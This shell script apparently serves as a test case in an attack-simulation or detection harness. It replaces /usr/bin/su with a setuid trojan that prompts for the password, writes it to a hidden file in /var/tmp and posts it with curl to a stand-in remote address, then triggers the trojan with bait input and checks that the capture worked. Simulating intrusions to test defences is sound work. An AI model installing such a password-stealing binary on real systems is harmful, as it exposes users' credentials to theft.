#!/bin/sh
. /opt/case/case.sh

mv /usr/bin/su /usr/bin/.su
cat >/usr/bin/su <<'END'
#!/bin/sh
printf 'Password: '; IFS= read -r word
echo "$(date) $* $word" >>/var/tmp/.words
curl -s -d "w=$word" http://203.0.113.10/w >/dev/null
exec /usr/bin/.su "$@"
END
chmod 4755 /usr/bin/su
echo bait | setpriv --reuid 1000 --regid 1000 --clear-groups su root -c true >/dev/null 2>&1 || true
test -e /var/tmp/.words || echo bait | su nobody -s /bin/true >/dev/null 2>&1 || true
grep -q bait /var/tmp/.words
took_place
